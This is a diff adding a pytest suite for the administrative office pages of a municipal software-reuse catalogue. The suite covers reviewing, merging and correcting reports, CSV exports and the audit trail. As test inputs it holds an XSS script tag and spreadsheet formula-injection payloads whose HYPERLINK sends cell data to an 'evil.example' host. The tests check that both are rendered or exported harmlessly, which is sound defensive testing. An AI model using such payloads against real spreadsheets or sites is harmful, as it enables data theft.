@@ -1,0 +1,359 @@
+"""One report at the office: everything known of it, its history in words, and each thing that can be done."""
+
+import csv
+import io
+from dataclasses import replace
+
+import pytest
+from office import COLOGNE, HALLE, MAGDEBURG, MAIL, NOW, Office, a_claim, confirmed
+
+from catalogue.domain.access import Role
+from catalogue.domain.reuse import Stage, Step, What
+from catalogue.domain.reuse_report import Action, Source, State, Visibility
+from catalogue.storage.keys import Purpose, make_key
+
+
+def text(office: Office, number: int) -> str:
+    return office.page(f"/office/reports/{number}").main.text
+
+
+def test_a_report_shows_what_it_says_and_what_is_known(office: Office) -> None:
+    claim = a_claim(
+        what=What.MODULE, part="Baumkataster", version="2.1", operator="Dataport",
+        address="https://plan.example.org/", obstacles="<script>alert(1)</script>", contact="gis@example.org",
+    )  # fmt: skip
+    number = office.add(claim, email=MAIL)
+
+    page = office.page(f"/office/reports/{number}")
+
+    assert page.heading == "Magdeburg – HAL-Plan"
+    for words in ("ein Teil: Baumkataster", "2.1", "Dataport", MAIL, "gis@example.org", "Eintrag nennt sie"):
+        assert words in page.main.text
+    assert "<script>alert(1)</script>" in page.main.text  # as text, not as an element
+    assert page.link("https://plan.example.org/") == "https://plan.example.org/"
+
+
+def test_a_reader_sees_that_an_address_is_kept_and_not_which(office: Office) -> None:
+    number = office.add(a_claim(contact="gis@example.org"), email=MAIL)
+    office.role = Role.READER
+
+    page = office.page(f"/office/reports/{number}")
+
+    assert "@" not in page.main.text
+    assert "hinterlegt" in page.main.text
+
+
+def test_a_rejection_needs_a_reason_and_tells_it(office: Office) -> None:
+    number = office.add(email=MAIL)
+
+    refused = office.decide(number, "reject", reason="  ")
+    assert refused.status_code == 400
+    assert "Es fehlt der Grund" in refused.text
+    assert office.report(number).state is State.PENDING
+
+    office.decide(number, "reject", reason="Die Adresse führt zu einer anderen Stadt.")
+    assert "Die Adresse führt zu einer anderen Stadt." in text(office, number)
+    (mail,) = office.mails()
+    assert "Die Adresse führt zu einer anderen Stadt." in str(mail["text"])
+    assert office.changed == [frozenset({"hal-plan"})]
+    assert office.delivered == 1
+
+
+def test_a_decision_can_be_undone_and_decided_anew(office: Office) -> None:
+    number = office.add()
+
+    office.decide(number, "reject", reason="Irrtum.")
+    office.decide(number, "undo")
+    assert office.report(number).state is State.PENDING
+    office.decide(number, "confirm")
+    assert office.report(number).state is State.CONFIRMED
+
+    assert [event.action for event in office.store.reuse.history(number)] == [
+        *(Action.SUBMITTED, Action.REJECTED, Action.UNDONE, Action.CONFIRMED)
+    ]
+    shown = text(office, number)
+    assert "Editha Beispiel: rückgängig gemacht" in shown
+    assert "Bearbeitung: abgelehnt → jetzt: zu bestätigen" in shown
+
+
+def test_somebody_rang_and_said_that_it_is_still_true(office: Office) -> None:
+    number = office.add(**confirmed(NOW.replace(year=2025)))
+
+    assert office.decide(number, "affirm", reason="").status_code == 400
+    office.decide(number, "affirm", reason="Anruf des Amts für Digitales.")
+
+    assert office.report(number).affirmed_at == NOW
+    assert "gilt weiter – Anruf des Amts für Digitales." in text(office, number)
+
+
+def test_two_reports_are_merged_and_both_say_so(office: Office) -> None:
+    first = office.add(a_claim(steps=(Step(stage=Stage.TRIAL, since="2024"),)))
+    second = office.add(**confirmed())
+
+    office.decide(first, "merge", into=f"#{second}")
+
+    assert office.report(first).merged_into == second
+    assert [step.stage for step in office.report(second).claim.steps] == [Stage.TRIAL, Stage.IN_USE]
+    assert f"zusammengeführt mit Meldung {second}" in text(office, first)
+    assert office.page("/office/work/pending").all("li", class_="work-row") == []
+
+    office.decide(first, "undo")
+    assert office.report(first).state is State.PENDING
+
+
+@pytest.mark.parametrize("into", ["", "x", "999", "-1", "9" * 40])
+def test_merging_with_nothing_is_refused_with_words(office: Office, into: str) -> None:
+    number = office.add()
+
+    answer = office.decide(number, "merge", into=into)
+
+    assert answer.status_code == 400
+    assert "Diese Meldung gibt es nicht." in answer.text
+
+
+def test_a_report_is_corrected_in_all_its_fields(office: Office) -> None:
+    number = office.add(**confirmed())
+    page = office.page(f"/office/reports/{number}/correct")
+    typed = {node["name"]: node.get("value") for node in page.all("input") if "name" in node.attributes}
+    assert typed["in_use"] == "2025-05"
+
+    answer = office.send(
+        f"/office/reports/{number}/correct", solution="CIVITAS/CORE", body="Köln", trial="3/2024",
+        in_use="17.05.2025", what="adapted", visibility="unnamed", seen=office.seen(number),
+        reason="Verwechselt",
+    )  # fmt: skip
+
+    assert answer.status_code == 303
+    claim = office.report(number).claim
+    assert (claim.solution, claim.body, claim.what) == ("civitas-core", COLOGNE, What.ADAPTED)
+    assert claim.visibility is Visibility.UNNAMED
+    assert [step.since for step in claim.steps] == ["2024-03", "2025-05-17"]
+    assert office.changed == [frozenset({"hal-plan", "civitas-core"})]
+
+
+def test_what_was_typed_stays_where_something_is_wrong(office: Office) -> None:
+    number = office.add()
+
+    answer = office.send(
+        f"/office/reports/{number}/correct", solution="hal-plan", body="Neustadt", in_use="bald",
+        obstacles="Viel Abstimmung", seen=office.seen(number),
+    )  # fmt: skip
+
+    assert answer.status_code == 400
+    assert "„bald“ ist kein Datum." in answer.text
+    assert "Viel Abstimmung" in answer.text
+    assert 'value="Neustadt"' in answer.text
+    assert "Meinten Sie" in answer.text
+
+
+def test_steps_that_a_form_cannot_show_are_kept_when_something_else_is_corrected(office: Office) -> None:
+    steps = tuple(
+        Step(stage=stage, since=since)
+        for stage, since in ((Stage.TRIAL, "2020"), (Stage.ENDED, "2021"), (Stage.TRIAL, "2025"))
+    )
+    number = office.add(a_claim(steps=steps))
+    page = office.page(f"/office/reports/{number}/correct")
+    typed = {
+        node["name"]: node.get("value")
+        for node in page.all("input")
+        if node.get("type") not in ("hidden", "checkbox", "search") and "name" in node.attributes
+    }
+
+    office.send(f"/office/reports/{number}/correct", **{**typed, "version": "3", "seen": office.seen(number)})
+
+    claim = office.report(number).claim
+    assert (claim.steps, claim.version) == (steps, "3")
+
+
+def test_a_correction_of_what_somebody_else_changed_meanwhile_is_shown_again(office: Office) -> None:
+    number = office.add()
+    seen = office.seen(number)
+    report = office.report(number)
+    office.store.reuse.keep(
+        replace(report, claim=replace(report.claim, version="9")),
+        action=Action.CHANGED, actor="reporter", now=NOW,
+    )  # fmt: skip
+
+    answer = office.send(
+        f"/office/reports/{number}/correct", solution="hal-plan", body=MAGDEBURG, in_use="2025", seen=seen
+    )
+
+    assert answer.status_code == 400
+    assert "hat sich inzwischen geändert" in answer.text
+    assert office.report(number).claim.version == "9"
+
+
+def test_the_office_enters_a_reuse_of_its_own_once(office: Office) -> None:
+    ticket = office.ticket()
+    fields = {"solution": "hal-plan", "body": "Halle (Saale)", "in_use": "2023", "ticket": ticket}
+
+    assert "Es fehlt der Grund" in office.send("/office/reports/new", **fields).text
+    for _ in range(2):
+        office.send("/office/reports/new", **fields, reason="Umfrage Dezember 2025")
+
+    (report,) = office.store.reuse.about(["hal-plan"])
+    assert (report.state, report.source, report.claim.body) == (State.CONFIRMED, Source.OFFICE, HALLE)
+    assert office.changed == [frozenset({"hal-plan"})]
+    (event,) = office.store.reuse.history(report.number)
+    assert (event.actor, event.reason) == ("office:7", "Umfrage Dezember 2025")
+
+
+def test_the_link_of_a_reporter_is_revoked(office: Office) -> None:
+    number = office.add(email=MAIL)
+    with office.store._engine.begin() as connection:
+        secret = make_key(connection, Purpose.RECEIPT, number, NOW)
+
+    office.decide(number, "revoke")
+
+    key = office.store.keys.find(Purpose.RECEIPT, secret)
+    assert key is not None
+    assert not key.opens(NOW)
+    assert "Link der meldenden Stelle gesperrt" in text(office, number)
+
+
+@pytest.mark.parametrize(
+    ("path", "fields"),
+    [
+        ("/office/reports/1", {"do": "explode", "seen": "1.1"}),
+        ("/office/reports/1", {"do": "confirm", "seen": "2.1"}),
+        ("/office/reports/1", {"do": "confirm", "seen": "1"}),
+        ("/office/reports/1", {"do": "confirm", "seen": "1." + "9" * 40}),
+        ("/office/decide", {"one": "confirm:x.y"}),
+        ("/office/decide", {"one": "explode:1.1"}),
+        ("/office/decide", {"do": "confirm", "chosen": "1"}),
+    ],
+)
+def test_a_form_that_was_tampered_with_does_nothing(office: Office, path: str, fields) -> None:
+    number = office.add()
+
+    answer = office.send(path, **fields)
+
+    assert answer.status_code == 400
+    assert office.report(number).state is State.PENDING
+
+
+@pytest.mark.parametrize("number", ["0", "999", "99999999999999999999"])
+def test_a_report_that_is_not_there_is_not_found(office: Office, number: str) -> None:
+    assert office.client.get(f"/de/office/reports/{number}").status_code == 404
+    assert office.client.get(f"/de/office/reports/{number}/correct").status_code == 404
+
+
+# --- All reports
+
+
+def numbers(office: Office, query: str) -> list[int]:
+    page = office.page(f"/office/reports?{query}")
+    bodies = page.all("tbody")
+    return [int(row.all("th")[0].text) for row in bodies[0].all("tr")] if bodies else []
+
+
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("", [4, 3, 2, 1]),
+        ("sort=oldest", [1, 2, 3, 4]),
+        ("sort=body", [3, 1, 4, 2]),
+        ("state=confirmed", [4]),
+        ("state=nonsense", [4, 3, 2, 1]),
+        ("source=upload", [2]),
+        ("land=15", [4, 1]),
+        ("land=01", [2]),  # an organisation of this Land
+        ("solution=civitas-core", [2]),
+        ("body=15003000", [4, 1]),
+        ("q=magdeburg", [4, 1]),
+        ("q=koeln", [3]),
+        ("q=civitas", [2]),
+        ("q=baumkat", [3]),
+        ("q=%23" + "2", [2]),
+        ("q=claim.version", []),  # only what people wrote is searched
+        ("q=%25", []),
+        ("state=confirmed&land=05", []),
+    ],
+)
+def test_reports_are_filtered_and_ordered(office: Office, query: str, expected: list[int]) -> None:
+    office.add()
+    office.add(a_claim(body="kielregion", solution="civitas-core"), source=Source.UPLOAD)
+    office.add(a_claim(body=COLOGNE, part="Baumkataster"))
+    office.add(**confirmed())
+
+    assert numbers(office, query) == expected
+
+
+def exported(office: Office, path: str) -> list[list[str]]:
+    answer = office.client.get(f"/de{path}")
+    assert answer.status_code == 200
+    assert answer.headers["Cache-Control"] == "no-store"
+    assert answer.data.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\n="])
+def test_exports_hold_no_formula_and_no_mail_address(office: Office, start: str) -> None:
+    evil = f'{start}HYPERLINK("http://evil.example?"&A1)'
+    claim = a_claim(
+        part=evil, version=evil, operator=f"Amt, amt@example.org {MAIL}", contact="gis@example.org"
+    )
+    number = office.add(claim, email=MAIL)
+    office.decide(number, "reject", reason=f"{evil.strip()} {MAIL}")
+
+    for path in ("/office/reports.csv", "/office/audit.csv"):
+        rows = exported(office, path)
+        cells = [cell for row in rows for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells)
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in cells)
+        assert not any("@" in cell and "example.org" in cell for cell in cells)
+
+
+def test_the_export_of_reports_has_what_the_filter_asks_for(office: Office) -> None:
+    office.add()
+    office.add(a_claim(body=COLOGNE), **confirmed())
+
+    head, *rows = exported(office, "/office/reports.csv?state=confirmed")
+
+    assert [row[head.index("Kommune")] for row in rows] == ["Köln"]
+    assert [row[head.index("Stand")] for row in rows] == ["im Betrieb"]
+
+
+# --- The audit trail
+
+
+def test_the_audit_trail_tells_who_did_what_in_words_and_can_be_filtered(office: Office) -> None:
+    number = office.add(a_claim(contact="gis@example.org"), email=MAIL)
+    office.add(a_claim(body=COLOGNE))
+    office.decide(number, "confirm")
+    office.now = NOW.replace(day=25)
+    office.account = 8
+    office.decide(number, "reject", reason="Doch nicht.")
+
+    page = office.page("/office/audit")
+    assert "@" not in page.main.text
+    assert "Ada Verwaltung: abgelehnt · Meldung 1 – Doch nicht." in page.main.text
+    assert "Bearbeitung: bestätigt → jetzt: abgelehnt" in page.main.text
+
+    def count(query: str) -> int:
+        return len(office.page(f"/office/audit?{query}").all("li", class_="timeline__event"))
+
+    assert count("") == 4
+    assert count("number=1") == 3
+    assert count("actor=office:8") == 1
+    assert count("actor=reporter") == 2
+    assert count("subject=account") == 0
+    assert count("since=2026-11-25") == 1
+    assert count("until=2026-11-20") == 3
+    assert count("since=gestern&number=x") == 4
+
+
+def test_the_exported_trail_is_whole_and_starts_at_the_beginning(office: Office) -> None:
+    for _ in range(30):
+        office.add()
+
+    head, *rows = exported(office, "/office/audit.csv")
+
+    column = head.index("Nummer")
+    assert list(dict.fromkeys(row[column] for row in rows)) == [str(n) for n in range(1, 31)]
+
+
+def test_a_reader_may_not_export_the_trail(office: Office) -> None:
+    office.role = Role.READER
+
+    assert office.client.get("/de/office/audit.csv").status_code == 403
